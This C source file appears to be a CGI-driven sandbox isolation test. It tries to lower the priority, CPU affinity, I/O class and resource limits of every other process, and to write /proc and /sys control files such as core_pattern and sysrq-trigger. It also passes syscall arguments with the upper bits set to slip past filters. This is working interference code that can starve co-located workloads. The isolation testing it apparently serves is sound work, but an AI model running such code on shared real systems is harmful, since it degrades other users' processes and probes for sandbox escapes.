// A program that changes limits, priority, class, affinity and I/O class of every process but itself, or of one. The query says which:
// "attack" or "attack:PID". "files" writes into /proc/PID, "race" opens these files as soon as there is a process; "marks" changes RLIMIT_LOCKS; "itself" changes the program's own; "stay" runs on.
// "state" prints what could be changed of each thread of all other processes, but those of the attack's script: a line begins with the thread's folder.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>
enum { PROCESSES = 1000, IOPRIO_IDLE = 3 << 13 };
struct attributes { unsigned size, policy; unsigned long long flags; int nice; unsigned priority; unsigned long long rest[4]; };

static void put(const char *path, const char *text) {
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0) return;
    if (!*text || write(fd, text, strlen(text)) > 0) printf("wrote %s\n", path);
    close(fd);
}
// Calls that no filter refused: of a process that is not there, the kernel says ESRCH.
static int reached;
#define TRY(...) (reached += syscall(__VA_ARGS__) != -1 || errno != EPERM)
// The upper half of a number that the kernel takes 32 bits of.
static const long upper = 1L << 40;
static void attack(int process) {
    struct sched_param none = {0};
    struct attributes idle = {sizeof idle, SCHED_IDLE, 0, 19, 0, {0}};
    cpu_set_t first;
    CPU_ZERO(&first);
    CPU_SET(0, &first);
    struct rlimit few = {3, 3}, soft = {3, 1024};
    for (int wide = 0; wide < 2; wide++) {
        long p = process + wide * upper;
        TRY(SYS_setpriority, PRIO_PROCESS, p, 19);
        TRY(SYS_setpriority, PRIO_PGRP, p, 19);
        TRY(SYS_ioprio_set, 1, p, IOPRIO_IDLE);
        TRY(SYS_ioprio_set, 2, p, IOPRIO_IDLE);
        TRY(SYS_sched_setaffinity, p, sizeof first, &first);
        TRY(SYS_sched_setattr, p, &idle, 0);
        TRY(SYS_sched_setscheduler, p, SCHED_IDLE, &none);
        TRY(SYS_sched_setparam, p, &none);
        for (int limit = 0; limit < 16; limit++)
            if (limit != RLIMIT_CPU) TRY(SYS_prlimit64, p, limit + wide * upper, &few, 0);
        TRY(SYS_prlimit64, p, RLIMIT_NOFILE, &soft, &soft);
    }
}
static const char *const FILES[][2] = {
    {"oom_score_adj", "1000"},
    {"autogroup", "0"}, // 19 would slow down all of the attack
    {"coredump_filter", "0x7f"},
    {"timerslack_ns", "1000000000"},
    {"clear_refs", "5"},
    {"comm", "attacked"},
    {"sched", "0"},
    {"oom_adj", "1"},
    {"mem", ""},
};
static void files(int process, int only_opens) {
    char path[64];
    for (unsigned i = 0; i < sizeof FILES / sizeof *FILES; i++) {
        snprintf(path, sizeof path, "/proc/%d/%s", process, FILES[i][0]);
        put(path, only_opens ? "" : FILES[i][1]);
    }
}
static void race(void) {
    // A process is tried until it has been there for a while.
    static int tries[1 << 16];
    for (time_t end = time(NULL) + 2; time(NULL) < end;) {
        DIR *folder = opendir("/proc");
        struct dirent *entry;
        while ((entry = readdir(folder))) {
            int process = atoi(entry->d_name);
            if (process > 0 && process != getpid() && process < 1 << 16 && tries[process]++ < 200) files(process, 1);
        }
        closedir(folder);
    }
}
static void all_of(long user) {
    for (int wide = 0; wide < 2; wide++) {
        TRY(SYS_setpriority, PRIO_USER + wide * upper, user, 19);
        TRY(SYS_ioprio_set, 3 + wide * upper, user, IOPRIO_IDLE);
    }
}
// In the place of its own group, that of another process of its session.
static void in_group_of(int process) {
    if (setpgid(0, getpgid(process)) != 0) return;
    printf("joined the group of %d\n", process);
    TRY(SYS_setpriority, PRIO_PGRP, 0, 19);
    TRY(SYS_ioprio_set, 2, 0, IOPRIO_IDLE);
    setpgid(0, 0);
}
static void marks(void) {
    struct rlimit old, low = {7, 7};
    getrlimit(RLIMIT_LOCKS, &old);
    for (int wide = 0; wide < 2; wide++) {
        syscall(SYS_setrlimit, RLIMIT_LOCKS + wide * upper, &low);
        syscall(SYS_prlimit64, wide * upper, RLIMIT_LOCKS + wide * upper, &low, 0);
        syscall(SYS_prlimit64, getpid(), RLIMIT_LOCKS, &low, 0);
        // Where galgo has a key it is no small number.
        for (long key = -2; key < 3; key++) syscall(SYS_prlimit64, 0, RLIMIT_LOCKS, &low, 0, key, key);
    }
    struct rlimit now;
    getrlimit(RLIMIT_LOCKS, &now);
    printf("mark %s\n", now.rlim_max == old.rlim_max && now.rlim_cur == old.rlim_cur ? "kept" : "changed");
}
static void itself(void) {
    struct sched_param none = {0};
    cpu_set_t set;
    struct rlimit few = {64, 64};
    sched_getaffinity(0, sizeof set, &set);
    printf("nice %d ", setpriority(PRIO_PROCESS, 0, 3) == 0 && getpriority(PRIO_PROCESS, 0) == 3);
    printf("limit %d ", setrlimit(RLIMIT_NOFILE, &few) == 0 && prlimit(0, RLIMIT_CORE, &few, &few) <= 0);
    printf("affinity %d ", sched_setaffinity(0, sizeof set, &set) == 0);
    printf("class %d ", sched_setscheduler(0, SCHED_BATCH, &none) == 0);
    printf("ioprio %d ", syscall(SYS_ioprio_set, 1, 0, IOPRIO_IDLE) == 0);
    printf("others' limit read %d\n", prlimit(getpid(), RLIMIT_NOFILE, NULL, &few) == 0 && getpriority(PRIO_PROCESS, getpid()) == 3);
}
static void state_of(int process, int thread) {
    cpu_set_t set;
    char comm[64], name[32] = "";
    snprintf(comm, sizeof comm, "/proc/%d/comm", process);
    FILE *file = fopen(comm, "r");
    if (!file || !fgets(name, sizeof name, file)) return;
    fclose(file);
    if (strstr("bash\ntimeout\nsort\ncurl\nsh\n", name)) return;
    CPU_ZERO(&set);
    sched_getaffinity(thread, sizeof set, &set);
    printf("/proc/%d/task/%d nice %d class %d processors %d ioprio %ld limits", process, thread, getpriority(PRIO_PROCESS, thread),
           sched_getscheduler(thread), CPU_COUNT(&set), syscall(SYS_ioprio_get, 1, thread));
    struct rlimit old;
    for (int limit = 0; limit < 16; limit++)
        if (prlimit(process, limit, NULL, &old) == 0) printf(" %lu/%lu", old.rlim_cur, old.rlim_max);
    printf("\n");
}
static void state(void) {
    for (int process = 1; process < 4 * PROCESSES; process++) {
        char tasks[64];
        snprintf(tasks, sizeof tasks, "/proc/%d/task", process);
        DIR *folder = process == getpid() ? NULL : opendir(tasks);
        struct dirent *entry;
        while (folder && (entry = readdir(folder)))
            if (atoi(entry->d_name)) state_of(process, atoi(entry->d_name));
        if (folder) closedir(folder);
    }
}
int main(void) {
    if (getenv("QUERY_STRING") && !strcmp(getenv("QUERY_STRING"), "state")) return state(), 0;
    const char *query = getenv("QUERY_STRING");
    printf("Content-Type: text/plain\n\n");
    fflush(stdout);
    if (!query || !strcmp(query, "stay")) {
        prctl(PR_SET_NAME, "stays");
        printf("%d\n", getpid());
        fflush(stdout);
        for (;;) pause();
    }
    if (!strcmp(query, "itself")) itself();
    else if (!strcmp(query, "marks")) marks();
    else if (!strcmp(query, "race")) race();
    else if (!strcmp(query, "files")) {
        for (int process = 1; process < PROCESSES; process++)
            if (process != getpid()) files(process, 0);
        put("/proc/sys/kernel/core_pattern", "");
        put("/proc/sysrq-trigger", "");
        put("/sys/kernel/uevent_helper", "");
        put("/sys/fs/cgroup/galgo/cgroup.freeze", "0");
    } else if (query[6] == ':') {
        // Beside it, a user who has no process.
        all_of(4000000000);
        attack(atoi(query + 7));
        printf("reached %d\n", reached);
    } else {
        all_of(0);
        all_of(getuid());
        for (int process = 1; process < PROCESSES; process++) {
            if (process == getpid()) continue;
            in_group_of(process);
            attack(process);
        }
        printf("reached %d\n", reached);
    }
    return 0;
}
